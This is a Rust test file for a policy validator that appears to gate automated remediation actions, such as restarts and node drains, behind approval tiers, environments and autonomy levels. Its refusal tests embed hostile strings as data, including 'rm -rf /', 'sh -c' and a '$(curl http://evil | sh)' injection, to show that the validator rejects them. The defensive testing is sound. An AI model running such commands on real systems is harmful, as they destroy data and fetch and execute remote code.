//! Policy files: the shipped examples validate, and every boundary is refused with its line.
//! Each bad file lists all of its problems at once.

use policy::{Autonomy, Environment, IssueKind, Mode, Policy, check_file};
use std::path::PathBuf;

fn example(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("examples")
        .join(name)
}

fn errors(text: &str) -> Vec<(usize, IssueKind, String)> {
    match Policy::from_toml_str(text, "bad.toml") {
        Ok(_) => panic!("policy should be refused"),
        Err(errs) => errs
            .issues
            .into_iter()
            .map(|i| (i.line, i.kind, i.reason))
            .collect(),
    }
}

#[test]
fn examples_validate() {
    let demo = check_file(&example("demo.toml")).unwrap();
    assert_eq!(demo.environment, Environment::Demo);
    assert_eq!(demo.autonomy, Autonomy::Extended);
    assert_eq!(demo.mode("restart_deployment"), Mode::Auto);
    assert_eq!(demo.mode("delete_volume"), Mode::Deny, "unlisted is denied");
    assert_eq!(demo.windows.len(), 1);

    let prod = check_file(&example("prod.toml")).unwrap();
    assert_eq!(prod.environment, Environment::Prod);
    assert_eq!(prod.mode("restart_deployment"), Mode::Approval);
    assert!(prod.may_approve("platform-lead", model::RiskClass::Approval));
    assert!(!prod.may_approve("platform-lead", model::RiskClass::Auto));
    assert!(prod.namespace_allowed("payments"));
    assert!(prod.resource_allowed("deployment/shop/cart"));
    assert!(!prod.resource_allowed("deployment/kube-system/coredns"));
    assert_eq!(prod.windows.len(), 2);
}

#[test]
fn missing_file_is_one_io_error() {
    let err = check_file(&example("nope.toml")).unwrap_err();
    assert_eq!(err.issues.len(), 1);
    assert_eq!(err.issues[0].kind, IssueKind::Io);
    assert!(err.to_string().contains("nope.toml:0: cannot read"));
}

#[test]
fn read_file_hashes_the_bytes_it_validated() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.toml");
    let text = std::fs::read_to_string(example("prod.toml")).unwrap();
    std::fs::write(&path, &text).unwrap();
    let good = policy::read_file(&path);
    assert!(good.policy.is_ok());
    let hash = good.sha256.unwrap();
    assert_eq!(hash.len(), 64);
    assert_eq!(policy::read_file(&path).sha256.unwrap(), hash, "stable");
    // One byte more: another hash; a bad file is still hashed, and refused with its line.
    std::fs::write(&path, format!("{text}\nshell = \"rm -rf /\"\n")).unwrap();
    let bad = policy::read_file(&path);
    assert_ne!(bad.sha256.as_deref(), Some(hash.as_str()));
    let err = bad.policy.unwrap_err().to_string();
    assert!(err.contains("p.toml:"), "{err}");
    let gone = policy::read_file(&dir.path().join("gone.toml"));
    assert!(gone.sha256.is_none());
    assert_eq!(gone.policy.unwrap_err().issues[0].kind, IssueKind::Io);
}

#[test]
fn every_boundary_is_refused_with_its_line() {
    let text = r#"environment = "prod"
autonomy = "safe"

[allow]
namespaces = ["shop"]
resources = ["deployment/shop/*", "pod/x"]

[actions]
delete_namespace = "auto"
restart_deployment = "auto"
drain_node = "approval"
rotate_credential = "approval"
frobnicate = "auto"

[[approvers]]
role = "sre"
may_approve = ["approval", "human_only"]
"#;
    let errs = errors(text);
    let find = |kind: IssueKind, line: usize| {
        assert!(
            errs.iter().any(|(l, k, _)| *k == kind && *l == line),
            "expected {kind:?} at line {line} in {errs:#?}"
        );
    };
    find(IssueKind::Invalid, 6);
    find(IssueKind::HumanOnly, 9);
    find(IssueKind::ApprovalBypass, 10);
    find(IssueKind::HumanOnly, 12);
    find(IssueKind::Invalid, 13);
    find(IssueKind::HumanOnly, 17);
    assert_eq!(errs.len(), 6, "{errs:#?}");
    assert!(
        errs.iter()
            .any(|(_, _, r)| r.contains("can never be made automatic"))
    );
    let display = Policy::from_toml_str(text, "bad.toml")
        .unwrap_err()
        .to_string();
    assert_eq!(display.lines().count(), 6);
    assert!(display.lines().all(|l| l.starts_with("bad.toml:")));
    assert!(display.contains("bad.toml:10: action `restart_deployment` needs approval in prod"));
}

#[test]
fn approval_class_auto_needs_demo_and_extended_autonomy() {
    let staging = r#"environment = "staging"
autonomy = "extended"
[actions]
run_job = "auto"
restart_deployment = "auto"
[[approvers]]
role = "sre"
may_approve = ["approval"]
"#;
    let errs = errors(staging);
    assert_eq!(errs.len(), 1, "{errs:#?}");
    assert_eq!((errs[0].0, errs[0].1), (5, IssueKind::ApprovalBypass));

    let demo_safe = r#"environment = "demo"
autonomy = "safe"
[actions]
restart_deployment = "auto"
"#;
    let errs = errors(demo_safe);
    assert_eq!((errs[0].0, errs[0].1), (4, IssueKind::ApprovalBypass));

    let prod_extended = "environment = \"prod\"\nautonomy = \"extended\"\n";
    let errs = errors(prod_extended);
    assert_eq!((errs[0].0, errs[0].1), (2, IssueKind::ApprovalBypass));
}

#[test]
fn shell_commands_and_secrets_are_refused_anywhere() {
    let text = r#"environment = "demo"

[allow]
namespaces = ["shop"]
resources = ["deployment/shop/sh -c 'rm -rf /'"]

[actions]
notify = "auto"

[[windows]]
name = "$(curl http://evil | sh)"
kind = "maintenance"
days = ["sat"]
from = "01:00"
to = "02:00"

[extra]
command = "restart"
api_token = "abc"
note = "Zx9kQ2mW7pL4vB8nR3tY6uH1jF5gD0sA"
"#;
    let errs = errors(text);
    let kinds: Vec<(usize, IssueKind)> = errs.iter().map(|(l, k, _)| (*l, *k)).collect();
    assert!(kinds.contains(&(5, IssueKind::ShellCommand)), "{errs:#?}");
    assert!(kinds.contains(&(11, IssueKind::ShellCommand)), "{errs:#?}");
    assert!(kinds.contains(&(18, IssueKind::ShellCommand)), "{errs:#?}");
    assert!(kinds.contains(&(19, IssueKind::Secret)), "{errs:#?}");
    assert!(kinds.contains(&(20, IssueKind::Secret)), "{errs:#?}");
    // The secret value itself is never echoed back.
    assert!(errs.iter().all(|(_, _, r)| !r.contains("Zx9kQ2mW7pL4")));
}

#[test]
fn schema_and_syntax_errors_carry_lines() {
    let unknown =
        "environment = \"demo\"\n\n[cooldowns]\nper_incident_secs = 10\nper_fortnight = 2\n";
    let errs = errors(unknown);
    assert_eq!(errs.len(), 1);
    assert_eq!((errs[0].0, errs[0].1), (5, IssueKind::Schema));
    assert!(errs[0].2.contains("per_fortnight"), "{}", errs[0].2);

    let broken = "environment = \"demo\"\n[allow\nnamespaces = [\n";
    let errs = errors(broken);
    assert!(!errs.is_empty());
    assert!(errs.iter().all(|(_, k, _)| *k == IssueKind::Syntax));
    assert_eq!(errs[0].0, 2);
}

#[test]
fn windows_and_limits_are_checked() {
    let text = r#"environment = "demo"

[blast_radius]
max_node_share = 1.5

[rate_limits]
workload = { max = 0, per_secs = 60 }
lunar = { max = 1, per_secs = 60 }

[[windows]]
name = "a"
kind = "suppression"
start = "2026-11-27T00:00:00Z"
end = "2026-11-26T00:00:00Z"

[[windows]]
name = "b"
kind = "maintenance"
days = ["someday"]
from = "25:00"
to = "01:00"
incident_types = ["crash_loop", "alien_invasion"]
"#;
    let errs = errors(text);
    let lines: Vec<usize> = errs.iter().map(|(l, _, _)| *l).collect();
    assert_eq!(lines, vec![4, 7, 8, 14, 19, 20, 22], "{errs:#?}");
}

#[test]
fn an_action_that_asks_needs_an_approver() {
    let text = "environment = \"prod\"\n[actions]\ndrain_node = \"approval\"\n";
    let errs = errors(text);
    assert_eq!(errs.len(), 1);
    assert_eq!(errs[0].0, 3);
    assert!(errs[0].2.contains("no approver"));
}

#[test]
fn unless_only_conditions_the_auto_tier_on_origins() {
    let demo = check_file(&example("demo.toml")).unwrap();
    let alerts: std::collections::BTreeSet<model::Origin> = [model::Origin::Alertmanager].into();
    let posted: std::collections::BTreeSet<model::Origin> =
        [model::Origin::Alertmanager, model::Origin::Findings].into();
    assert_eq!(demo.unless_only.get("restart_deployment"), Some(&posted));
    assert!(demo.withheld_by("restart_deployment", &posted).is_some());
    let findings = [model::Origin::Findings].into();
    assert!(demo.withheld_by("restart_deployment", &findings).is_some());
    assert_eq!(demo.mode("restart_deployment"), Mode::Auto);
    assert!(demo.withheld_by("restart_deployment", &alerts).is_some());
    let both = [model::Origin::Alertmanager, model::Origin::Rules].into();
    assert!(demo.withheld_by("restart_deployment", &both).is_none());
    assert!(demo.withheld_by("notify", &alerts).is_none());

    let text = r#"environment = "demo"
autonomy = "extended"
[actions]
restart_deployment = { tier = "auto", unless_only = ["alertmanager", "alertmanagr"] }
scale_deployment = { tier = "approval", unless_only = ["alertmanager"] }
delete_pods = { tier = "auto", unless_only = [] }
notify = { tier = "auto", unless_only = ["alertmanager"] }
run_job = { tier = "auto", only = ["rules"] }
suspend_cron_job = { unless_only = ["rules"] }
cordon_node = 3

[[approvers]]
role = "sre-oncall"
may_approve = ["auto", "approval"]
"#;
    let errs = errors(text);
    let at = |line: usize, needle: &str| {
        assert!(
            errs.iter()
                .any(|(l, _, r)| *l == line && r.contains(needle)),
            "expected {needle:?} at line {line} in {errs:#?}"
        );
    };
    at(
        4,
        "`actions.restart_deployment.unless_only`: unknown origin \"alertmanagr\"; origins: \
         alertmanager, anomaly, channels, demo, findings, kubernetes, log, replay, rules",
    );
    at(
        5,
        "`actions.scale_deployment.unless_only` conditions the auto tier",
    );
    at(
        6,
        "`actions.delete_pods.unless_only` must name at least one origin",
    );
    at(7, "`actions.notify.unless_only`: notify is read-only");
    at(8, "`actions.run_job.only`: unknown key");
    at(9, "`actions.suspend_cron_job` needs a tier");
    at(10, "action `cordon_node`: expected a tier");
    assert_eq!(errs.len(), 7, "{errs:#?}");

    // An auto action that may fall back to asking needs someone who can answer.
    let text = "environment = \"demo\"\n[actions]\n\
                delete_pods = { tier = \"auto\", unless_only = [\"alertmanager\"] }\n";
    let errs = errors(text);
    assert_eq!(errs.len(), 1, "{errs:#?}");
    assert_eq!(errs[0].0, 3);
    assert!(errs[0].2.contains("no approver"), "{errs:#?}");
}

#[test]
fn min_confidence_needs_the_auto_tier_and_a_share() {
    let base = "environment = \"demo\"\nautonomy = \"extended\"\n[allow]\nnamespaces = [\"shop\"]\n\
                resources = [\"deployment/shop/*\"]\n[[approvers]]\nrole = \"sre\"\n\
                may_approve = [\"auto\", \"approval\"]\n[actions]\n";
    let errs = errors(&format!(
        "{base}restart_deployment = {{ tier = \"approval\", min_confidence = 0.8 }}\n"
    ));
    assert!(
        errs.iter()
            .any(|e| e.2.contains("min_confidence") && e.2.contains("tier = \"auto\"")),
        "{errs:?}"
    );
    let errs = errors(&format!(
        "{base}restart_deployment = {{ tier = \"auto\", min_confidence = 1.5 }}\n"
    ));
    assert!(
        errs.iter()
            .any(|e| e.2.contains("from 0 to 1") && e.0 == 10),
        "{errs:?}"
    );
    let ok = Policy::from_toml_str(
        &format!("{base}restart_deployment = {{ tier = \"auto\", min_confidence = 0.75 }}\n"),
        "ok.toml",
    )
    .unwrap();
    assert_eq!(ok.min_confidence.get("restart_deployment"), Some(&0.75));
}
